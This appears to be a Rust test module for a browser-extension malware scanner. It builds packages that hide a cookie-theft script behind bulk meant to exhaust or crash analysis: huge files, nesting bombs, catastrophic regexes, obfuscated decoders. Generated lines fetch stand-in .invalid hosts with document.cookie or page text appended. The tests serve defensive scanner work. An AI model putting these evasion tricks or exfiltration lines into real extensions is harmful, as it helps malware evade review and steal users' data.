//! Bulk that is to use up what a scan allows itself, so that the real script is not read: it is read all the same, or what was
//! left out is said and weighs.

use std::fmt::Write as _;
use std::fs;

use crxhound::finding::Verdict;
use serde_json::json;

use super::rawzip::{RawEntry, entry, zip};
use super::{Case, Check, THEFT, THEFT_RULE, case, holds, inspect, thief};

/// Files of a package.
type Files = Vec<(String, Vec<u8>)>;

/// What weighs where something was not read.
const UNREAD: [&str; 2] = ["has-code-that-was-not-read", "breaks-the-parser-on-purpose"];

/// The theft is found; or an error says what was not read, and that weighs in the verdict.
fn found_or_said(files: &Files) -> Check {
    // As an archive, since a disk takes long to hold so many files.
    let dir = tempfile::tempdir().unwrap();
    let package = dir.path().join("package.zip");
    let entries: Vec<RawEntry> = files.iter().map(|(name, bytes)| entry(name, bytes)).collect();
    fs::write(&package, zip(&entries).bytes()).unwrap();
    let report = inspect(&package);
    let found = report.findings().any(|finding| finding.rule == THEFT_RULE);
    let rules: Vec<_> = report.findings().map(|finding| finding.rule.as_str()).collect();
    let weighs = report.worst() >= Verdict::Review && UNREAD.iter().any(|rule| rules.contains(rule));
    let said = !report.errors.is_empty() && weighs;
    holds(found || said, || format!("{:?}, {rules:?}, {:?}", report.worst(), report.errors))
}

/// The theft in `script`, and these files beside it.
fn beside(script: &str, more: Files) -> Files {
    let mut files = vec![("manifest.json".to_owned(), thief(script).into_bytes()), (script.to_owned(), THEFT.into())];
    files.extend(more);
    files
}

/// The theft behind a text, in one script.
fn behind(text: &str) -> Files {
    vec![("manifest.json".to_owned(), thief("bg.js").into_bytes()), ("bg.js".to_owned(), format!("{text}\n{THEFT}").into())]
}

/// So many scripts that are made from their number.
fn scripts(count: usize, text: impl Fn(usize) -> String) -> Files {
    (0..count).map(|n| (format!("a{n:05}.js"), text(n).into_bytes())).collect()
}

/// Functions that each lead to the next one, with data that could be anything.
fn chain(count: usize) -> String {
    let mut text = String::new();
    for n in 0..count {
        let next = (n * 7 + 1) % count;
        let _ = writeln!(text, "function f{n}(a, b) {{ return f{next}(a.v{n} + b[{n}], a) + g(b); }}");
    }
    let _ = writeln!(text, "console.log(f0(document.title, document.cookie));");
    text
}

fn rows() -> Vec<(&'static str, Files)> {
    let wide = |n: usize| format!("fetch('https://a{n}.invalid/?' + document.title + document.cookie);").repeat(50);
    vec![
        ("3,000 small scripts before it", beside("z.js", scripts(3_000, |n| format!("var v{n} = {n};")))),
        ("300 scripts with flows before it", beside("z.js", scripts(300, wide))),
        ("60 scripts with long chains before it", beside("z.js", scripts(60, |_| chain(1_000)))),
        ("a script of 33 MB before it", beside("z.js", vec![("a.js".into(), " ".repeat(33 << 20).into_bytes())])),
        ("a script with a nesting bomb before it", beside("z.js", vec![("a.js".into(), "[".repeat(100_000).into_bytes())])),
        ("a script that is no script before it", beside("z.js", vec![("a.js".into(), b"\x7fELF\x02\x01 } ) ]".to_vec())])),
        (
            "a page with 30,000 scripts before it",
            beside("z.js", vec![("a.html".into(), "<script>1;</script>".repeat(30_000).into_bytes())]),
        ),
        (
            "45,000 files of other kinds before it",
            beside("z.js", (0..45_000).map(|n| (format!("a/{n}.bin"), Vec::new())).collect()),
        ),
        ("a tree of 60 folders before it", beside("z.js", vec![(format!("{}a.js", "a/".repeat(60)), b"1;".to_vec())])),
        (
            "messages in 200 languages before it",
            beside(
                "z.js",
                (0..200)
                    .map(|n| {
                        (
                            format!("_locales/l{n}/messages.json"),
                            json!({"a": {"message": "x".repeat(2_000)}}).to_string().into_bytes(),
                        )
                    })
                    .collect(),
            ),
        ),
        (
            "rules of the network without end before it",
            beside(
                "z.js",
                vec![(
                    "rules.json".into(),
                    json!(vec![json!({"id": 1, "action": {"type": "block"}, "condition": {"urlFilter": "a"}}); 50_000])
                        .to_string()
                        .into_bytes(),
                )],
            ),
        ),
        ("a map of 20 MB before it", beside("z.js", vec![("a.js.map".into(), vec![b'A'; 20 << 20])])),
        (
            "a table of texts before it",
            beside("z.js", scripts(1, |_| format!("var t = [{}];", "'aGVsbG8gd29ybGQ=',".repeat(60_000)))),
        ),
        (
            "decoders without end before it",
            beside(
                "z.js",
                scripts(100, |n| {
                    format!("var _0x{n:04x} = function (a) {{ return atob(a); }}; _0x{n:04x}('aGk=');").repeat(30)
                }),
            ),
        ),
        ("a text of ten megabytes in front", behind(&format!("var a = '{}';", "x".repeat(10 << 20)))),
        ("a comment of ten megabytes in front", behind(&format!("/*{}*/", "x".repeat(10 << 20)))),
        ("a list of 500,000 numbers in front", behind(&format!("var a = [{}];", "1,".repeat(500_000)))),
        ("200,000 small objects in front", behind(&"({a,b});".repeat(200_000))),
        ("a chain of functions in front", behind(&chain(3_000))),
        (
            "ten chains of functions in front",
            behind(
                &(0..10)
                    .map(|n| {
                        chain(1_500)
                            .replace("function f", &format!("function f{n}_"))
                            .replace("return f", &format!("return f{n}_"))
                    })
                    .collect::<String>(),
            ),
        ),
        (
            "5,000 fetches of the page's text in front",
            behind(&"fetch('https://a.invalid/?' + document.body.innerText);".repeat(5_000)),
        ),
        (
            "a thousand elements filled with one long script in front",
            behind(&format!(
                "const s = document.createElement('script'); const t = `{}`; {}",
                "f(1);\n".repeat(150_000),
                "s.textContent = t;\n".repeat(1_000)
            )),
        ),
        ("20,000 branches in front", behind(&"if (a) { b = c; } else { b = d; }\n".repeat(20_000))),
        ("900 levels of brackets in front", behind(&format!("var a = {}1{};", "(".repeat(900), ")".repeat(900)))),
        ("5,000 levels of brackets in front", behind(&format!("var a = {}1{};", "(".repeat(5_000), ")".repeat(5_000)))),
        ("19,000 additions in front", behind(&format!("var a = {}1;", "1 + ".repeat(19_000)))),
        ("100,000 additions in front", behind(&format!("var a = {}1;", "1 + ".repeat(100_000)))),
        ("50,000 arrows in front", behind(&format!("var f = {}1;", "a => ".repeat(50_000)))),
        ("30,000 nots in front", behind(&format!("var a = {}1;", "!".repeat(30_000)))),
        ("slashes that read in many ways in front", behind(&"a = b\n/c/g; d = {} / 2 / {}; ".repeat(3_000))),
        (
            "a template in a template 900 times in front",
            behind(&format!("var a = {}1{};", "`${".repeat(900), "}`".repeat(900))),
        ),
        ("an expression of text with a bomb in it in front", behind(&format!("/{}/.test(a);", "(a+)+".repeat(2_000)))),
        (
            "50,000 labels in front",
            behind(&(0..50_000).map(|n| format!("l{n}: for (;;) {{ break l{n}; }}\n")).collect::<String>()),
        ),
        (
            "30,000 classes in front",
            behind(&(0..30_000).map(|n| format!("class C{n} {{ m() {{ return this.x{n}; }} }}\n")).collect::<String>()),
        ),
        (
            "10,000 classes that write one member in front",
            behind(
                &(0..10_000)
                    .map(|n| {
                        format!(
                            "class C{n} {{ constructor(a) {{ this.x = a; }} m() {{ return this.x; }} }} fetch(new C{n}(a).m());\n"
                        )
                    })
                    .collect::<String>(),
            ),
        ),
        (
            "10,000 objects that hold each other by one name in front",
            behind(
                &(0..10_000)
                    .map(|n| format!("var o{n} = {{ x: [] }}; o{n}.x = o{}; o{n}.x.push(o{n}.x); fetch(o{n}.x);\n", n * 7 % 10_000))
                    .collect::<String>(),
            ),
        ),
        (
            "30,000 commands to copy, and as many elements that are read, in front",
            behind(
                &(0..30_000)
                    .map(|n| format!("document.execCommand('copy'); fetch('/{n}?' + document.createElement('a').value);\n"))
                    .collect::<String>(),
            ),
        ),
        (
            "a switch of 50,000 cases in front",
            behind(&format!(
                "switch (a) {{ {} }}",
                (0..50_000).map(|n| format!("case {n}: b = {n}; break;\n")).collect::<String>()
            )),
        ),
        (
            "a function of a megabyte that is written out 2,000 times in front",
            behind(&format!(
                "var s = document.createElement('script'); function f() {{ /*{}*/ }}\n{}",
                "x".repeat(1 << 20),
                "s.text = 'no code (' + f + ')';\n".repeat(2_000)
            )),
        ),
        (
            "200 functions within functions that are all written out in front",
            behind(&format!(
                "var s = document.createElement('script'); {}/*{}*/{}",
                (0..200).map(|n| format!("function f{n}() {{ ")).collect::<String>(),
                "x".repeat(100 << 10),
                (0..200).rev().map(|n| format!("}} s.text = '(' + f{n} + ')()'; ")).collect::<String>()
            )),
        ),
        ("the theft itself in a script of 33 MB", behind(&format!("/*{}*/", "x".repeat(33 << 20)))),
        ("the theft itself behind a nesting bomb", behind(&format!("var a = {}1{};", "[".repeat(60_000), "]".repeat(60_000)))),
    ]
}

pub fn cases() -> Vec<Case> {
    rows().into_iter().map(|(name, files)| case(name, move || found_or_said(&files))).collect()
}
